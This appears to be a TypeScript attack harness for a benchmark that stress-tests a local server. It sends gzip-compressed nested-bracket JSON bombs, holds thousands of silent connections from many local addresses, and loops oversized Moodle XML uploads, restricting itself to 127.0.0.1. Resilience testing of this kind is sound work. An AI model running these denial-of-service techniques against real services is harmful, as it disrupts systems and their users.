import { Agent, request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { z } from 'zod';
import { openConnection } from './json-call.ts';

// A process of the benchmark `attacked-lab`: what an attack found, against a hub of this computer, for some seconds.
const [base = '', seconds = '0', authorToken = ''] = process.argv.slice(2);
const { hostname, port } = new URL(base);
if (hostname !== '127.0.0.1') throw new Error('This attacks a hub of this computer alone.');
const ends = performance.now() + Number(seconds) * 1000;
const isOn = (): boolean => performance.now() < ends;

const BOMB_CLIENTS = 8;
const SILENT = 4094;
const ADDRESSES = 70;
const NEW_AT_ONCE = 100;
const QUESTIONS = 30_000;
const PART_BYTES = 512 * 1024;

/** Brackets within brackets, 16 MiB of them in 16 kB. */
async function sendBombs(): Promise<number> {
  const bomb = gzipSync('['.repeat(16 * 1024 * 1024 - 1), { level: 9 });
  const agent = new Agent({ keepAlive: true, maxSockets: 1 });
  const headers = { 'content-type': 'application/json', 'content-encoding': 'gzip' };
  let sent = 0;
  while (isOn()) {
    await new Promise<void>((resolve) => {
      const call = request({ hostname, port, path: '/sync/enrol', method: 'POST', agent, headers });
      call.once('response', (response) => response.resume().once('close', resolve));
      call.once('error', () => resolve());
      call.end(bomb);
    });
    sent += 1;
  }
  agent.destroy();
  return sent;
}

/** Connections of many addresses that say nothing, opened again when they are closed. */
async function holdConnections(): Promise<number> {
  const open = new Set<Socket>();
  let made = 0;
  while (isOn()) {
    for (let at = 0; at < NEW_AT_ONCE && open.size < SILENT; at++) {
      const localAddress = `127.0.1.${1 + (made++ % ADDRESSES)}`;
      const socket = connect({ host: hostname, port: Number(port), localAddress });
      open.add(socket);
      socket.on('error', () => undefined);
      socket.on('end', () => socket.destroy());
      socket.once('close', () => open.delete(socket));
    }
    await sleep(50);
  }
  for (const socket of open) socket.destroy();
  return made;
}

const Batch = z.object({ data: z.object({ id: z.number(), state: z.string() }) });

const moodleQuestion = (at: number): string =>
  `<question type="truefalse"><name><text>Q${at}</text></name><questiontext format="html"><text>Is ${at} even?</text></questiontext><answer fraction="100"><text>true</text></answer><answer fraction="0"><text>false</text></answer></question>`;

/** Files that take long to read, one after the other. */
async function sendImports(): Promise<number> {
  const text = `<quiz>${Array.from({ length: QUESTIONS }, (_, at) => moodleQuestion(at)).join('')}</quiz>`;
  const bytes = new TextEncoder().encode(text);
  const { send, close } = openConnection(base, authorToken);
  const bearer = { authorization: `Bearer ${authorToken}`, 'content-type': 'application/octet-stream' };
  let sent = 0;
  while (isOn()) {
    const { data } = Batch.parse(
      await send('POST', '/api/imports', { file_name: 'bomb.xml', size: bytes.byteLength }),
    );
    for (let part = 0; part * PART_BYTES < bytes.byteLength; part++) {
      const body = bytes.slice(part * PART_BYTES, (part + 1) * PART_BYTES);
      await fetch(`${base}/api/imports/${data.id}/parts/${part}`, { method: 'PUT', headers: bearer, body });
    }
    sent += 1;
    while (isOn()) {
      await sleep(250);
      const { state } = Batch.parse(await send('GET', `/api/imports/${data.id}`)).data;
      if (state !== 'reading') break;
    }
  }
  close();
  return sent;
}

const [connections, imports, ...bombs] = await Promise.all([
  holdConnections(),
  // A hub that takes no more files of this person has said so.
  sendImports().catch(() => 0),
  ...Array.from({ length: BOMB_CLIENTS }, () => sendBombs()),
]);
process.stdout.write(
  `${JSON.stringify({ connections, imports, bombs: bombs.reduce((sum, one) => sum + one, 0) })}\n`,
);
